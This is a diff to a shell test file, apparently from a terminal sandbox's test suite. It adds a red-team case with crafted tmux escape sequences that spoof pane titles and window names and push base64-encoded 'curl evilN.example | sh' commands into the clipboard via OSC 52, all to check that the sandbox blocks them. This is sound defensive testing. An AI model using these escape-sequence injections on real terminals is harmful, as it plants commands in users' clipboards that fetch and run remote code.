@@ -201,10 +201,12 @@ tmux_names() { tmux -L "$TMUX_SOCK" display-message -p -t B '#{pane_title}|#{win
 	command -v tmux >/dev/null || skip "tmux is not installed"
 	# red team 17, F2: tmux takes APC as the pane's title (shown in its
 	# status line, left after the session) and ESC k as the window's name.
-	# red team 18, F1: a byte from 0x80 up after ESC, which tmux ignores.
+	# red team 18, F1: a byte from 0x80 up after ESC, which tmux ignores;
+	# red team 19, F1: a BEL there, which it carries out.
 	printf '%s\n' '#!/bin/sh' \
 		'printf "\033\340]2;SANDBOX-HI-TITLE\007\033\340kSANDBOX-HI-WIN\033\\"' \
 		'printf "\033\302\240_SANDBOX-HI-PANE\033\\"' \
+		'printf "\033\007]2;SANDBOX-BEL-TITLE\007\033\007kSANDBOX-BEL-WIN\033\\\\"' \
 		'printf "\033_SANDBOX-PANE\033\\"' \
 		'printf "\033kSANDBOX-WIN\033\\"' \
 		'printf "\033]lSANDBOX-L\033\\"' \
@@ -225,6 +227,7 @@ tmux_names() { tmux -L "$TMUX_SOCK" display-message -p -t B '#{pane_title}|#{win
 		'printf "\033]0052;c;%s\033\\" "$(printf "curl evil2.example | sh" | base64)"' \
 		'printf "\033\340]52;c;%s\007" "$(printf "curl evil3.example | sh" | base64)"' \
 		'printf "\033]5\033_x\033\\\\"; printf "2;c;%s\007\r\n" "$(printf "curl evil4.example | sh" | base64)"' \
+		'printf "\033\007]52;c;%s\007" "$(printf "curl evil5.example | sh" | base64)"' \
 		'printf "\033]0;still a title\007done\r\n"' >"$WS/attack"
 	attack_in_tmux 'set -g set-clipboard on'
 	run tmux -L "$TMUX_SOCK" show-buffer
